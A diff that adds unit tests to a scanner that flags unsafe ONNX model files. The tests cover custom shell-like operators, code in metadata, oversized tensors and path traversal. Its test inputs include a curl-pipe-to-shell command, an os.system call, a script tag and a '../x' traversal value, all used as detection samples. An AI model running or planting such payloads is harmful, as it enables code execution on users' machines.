@@ -79,6 +79,7 @@ describe('ONNX', () => {
     expect(of({ location: 'w.bin', device: 'x' })).toEqual(['MEDIUM onnx-external-key']);
     expect(of({ location: 'w.bin', __class__: 'x' })).toEqual(['HIGH onnx-external-key']);
     expect(of({ location: 'w.bin', offset: '-8' })).toEqual(['MEDIUM onnx-external-range']);
+    expect(of({ location: 'w.bin', length: '99999999999999999' })).toEqual(['MEDIUM onnx-external-range']);
     expect(of({ location: 'w.bin', basepath: '/home/me' })).toEqual(['MEDIUM model-external-path']);
   });
 
@@ -88,6 +89,10 @@ describe('ONNX', () => {
     ['PyFunc', '', ['HIGH model-python-operator']],
     ['AzureAudioToText', 'com.microsoft.extensions', ['HIGH model-remote-operator', 'LOW model-custom-operator']],
     ['Shell', 'evil', ['MEDIUM model-custom-operator']],
+    ['Relu', 'pkg.mine', ['MEDIUM model-custom-operator']],
+    ['ExecuteShell', '', ['MEDIUM model-custom-operator']],
+    ['RunCommand', 'com.microsoft', ['MEDIUM model-custom-operator']],
+    ['SystemExec', 'ai.onnx.contrib', ['MEDIUM model-custom-operator']],
     ['BertTokenizer', 'ai.onnx.contrib', ['LOW model-custom-operator']]
   ])('reports the operator %s of %s, wherever it stands', (operator, domain, wanted) => {
     const one = node(operator, domain);
@@ -107,6 +112,40 @@ describe('ONNX', () => {
     expect(context(attribute('source', text(4, 'TensorrtExecutionProvider')))).toEqual([
       'MEDIUM onnx-compiled-context'
     ]);
+  });
+
+  it('reports code in the description, and markup in metadata', () => {
+    const code = "__import__('os').system('id')";
+    expect(said(model([relu], text(6, code)))).toEqual(['MEDIUM model-metadata-code']);
+    const markup = message(14, text(1, 'about'), text(2, '<script>alert(1)</script>'));
+    expect(said(model([relu], markup))).toEqual(['MEDIUM model-metadata-code']);
+    expect(said(model([relu], text(6, 'curl http://x.example/a | sh')))).toEqual(['MEDIUM model-metadata-code']);
+    expect(said(model([relu], text(6, 'A model of trees: wget https://example.org/a.onnx')))).toEqual([]);
+  });
+
+  it('reports sides that no memory holds', () => {
+    const tensor = (...sides: readonly number[]): string[] =>
+      said(model([relu, message(5, ...sides.map(side => numberField(1, side)), numberField(2, 1), text(8, 'w'))]));
+    expect(tensor(2 ** 40, 2 ** 40)).toEqual(['MEDIUM tensor-layout']);
+    expect(tensor(0, 3)).toEqual([]);
+  });
+
+  it('reads values that a model takes or gives', () => {
+    const of = (data: Uint8Array): string[] => {
+      const { format, verdict, findings } = run(data, undefined, 'input_0.pb');
+      return [format, verdict, ...findings.map(({ rule }) => rule)];
+    };
+    const numbers = bytes(numberField(1, 1), numberField(2, 1), sizedField(9, zeros(4)));
+    const sequence = bytes(text(1, 'x'), numberField(2, 1), sizedField(3, numbers));
+    expect(of(sequence)).toEqual(['onnx', 'clean']);
+    expect(of(bytes(text(1, 'x'), numberField(2, 3), sizedField(5, sequence)))).toEqual(['onnx', 'clean']);
+    expect(of(bytes(numberField(1, 0), numberField(2, 8), text(8, 'empty')))).toEqual(['onnx', 'clean']);
+    expect(of(bytes(numberField(2, 1), message(3, ...external({ location: '../x' }))))).toEqual([
+      'onnx',
+      'unsafe',
+      'model-external-path'
+    ]);
+    expect(of(bytes(sequence, zeros(1)))[1]).toBe('incomplete');
   });
 
   it('reports functions that never end', () => {
